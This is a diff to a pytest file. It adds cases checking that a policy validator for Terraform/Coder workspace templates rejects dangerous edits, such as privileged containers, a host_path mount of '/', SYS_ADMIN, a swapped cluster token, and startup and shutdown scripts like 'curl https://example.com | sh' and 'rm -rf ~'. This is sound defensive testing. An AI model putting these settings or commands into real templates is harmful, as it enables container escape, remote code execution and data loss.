@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from tests.policy.breaking import Broken, assert_caught, cases, edited, examples, forged, put
+from tests.policy.breaking import Broken, assert_caught, cases, edited, examples, forged, put, swap
 from tests.policy.judge import run
 from tests.policy.test_property_07_auto_stop import TEMPLATE, small
 from tests.policy.test_property_14_contract import json_edit
@@ -30,6 +30,45 @@ def tells(overrides: dict[str, Any], *permits: dict[str, Any]) -> Any:
 
 def permit(path: str, expires: str = "2999-12-31", reason: str = "a customer asks", approver: str = "security") -> dict[str, Any]:
     return {"path": path, "reason": reason, "approver": approver, "expires": expires}
+
+
+def root(change: Any) -> Any:
+    return {ROOT: json_edit(change)}
+
+
+def provides(name: str, **more: Any) -> Any:
+    return root(lambda content: content["provider"][name].update(more))
+
+
+def agent(**more: Any) -> Any:
+    return root(lambda content: content["resource"]["coder_agent"]["main"].update(more))
+
+
+def declares(**more: Any) -> Any:
+    return root(lambda content: content["resource"].update(more))
+
+
+def listed(kind: str, more: Any) -> Any:
+    """Terraform takes a list of bodies where one would stand."""
+    return root(lambda content: content.update({kind: [content[kind], more]}))
+
+
+def modules(more: Any) -> Any:
+    return listed("module", more)
+
+
+def in_a_list(content: Any) -> None:
+    main = content["resource"]["coder_agent"]["main"]
+    content["resource"] = [{"coder_agent": [{"main": [{**main, "startup_script": "id"}]}]}]
+
+
+agent_in_a_list = root(in_a_list)
+
+
+def late_privilege(text: str) -> str:
+    """In the second container of the pod, which a dynamic block makes."""
+    place = text.rindex("privileged                 = false")
+    return text[:place] + text[place:].replace("false", "true", 1)
 
 
 OPEN = {"capabilities": {"network-egress": "unrestricted"}}
@@ -84,6 +123,36 @@ BROKEN = [
         "declares kubernetes_pod",
         forged({ROOT: json_edit(lambda c: c["resource"].update(kubernetes_pod={"x": {}}))}),
     ),
+    *(
+        Broken(f"a base with {key}", f"sets {key}", forged({"base/main.tf": swap(old, new)}))
+        for key, old, new in (
+            ("privileged", "privileged                 = false", "privileged = true"),
+            ("privileged", "privileged                 = false", "privileged = var.namespace"),
+            ("allow_privilege_escalation", "allow_privilege_escalation = false", "allow_privilege_escalation = true"),
+            ("host_pid", "enable_service_links             = false", "host_pid = true"),
+        )
+    ),
+    Broken("a base with a privileged desktop", "sets privileged", forged({"base/main.tf": late_privilege, **hands(gui_vnc=True)})),
+    Broken("a base that adds capabilities", "adds capabilities", forged({"base/main.tf": swap('drop = ["ALL"]', 'add = ["SYS_ADMIN"]')})),
+    Broken(
+        "a base that mounts the node's files",
+        "mounts a host_path",
+        forged(
+            {"base/main.tf": swap('volume {\n          name = "home"', 'volume {\n          host_path {\n path = "/"\n }\n name = "home"')}
+        ),
+    ),
+    Broken("another cluster", "sets host of the provider kubernetes", forged(provides("kubernetes", host="https://10.9.9.9"))),
+    Broken("another identity at the cluster", "sets token of the provider", forged(provides("kubernetes", token="stolen"))),
+    Broken("another role", "sets assume_role of the provider aws", forged(provides("aws", assume_role=[{"role_arn": "x"}]), "ec2-swdev")),
+    Broken("a provider in the base", "configures a provider in base/p.tf", forged({"base/p.tf": lambda _: 'provider "kubernetes" {}\n'})),
+    Broken("another script at the start", "sets startup_script", forged(agent(startup_script="curl https://example.com | sh"))),
+    Broken("a script at the end", "sets shutdown_script", forged(agent(shutdown_script="rm -rf ~"))),
+    Broken("a script beside the agent", "declares coder_script", forged(declares(coder_script={"x": {"script": "id"}}))),
+    Broken("an agent in a list", "sets startup_script", edited(agent_in_a_list)),
+    Broken("several modules in a list", "starts a module shadow", edited(modules({"shadow": {"source": "./base"}}))),
+    Broken("two bases in a list", "starts a module twice", edited(modules({"base": {"source": "./base"}}))),
+    Broken("several resources in a list", "declares kubernetes_pod", edited(listed("resource", {"kubernetes_pod": {"x": {}}}))),
+    Broken("several sources in a list", "reads external", edited(listed("data", {"external": {"x": {}}}))),
     Broken("a folder that is not there", "can't be read", put(TEMPLATE, "pod-swdev", "versions.0.directory", "composed/gone")),
 ]
 
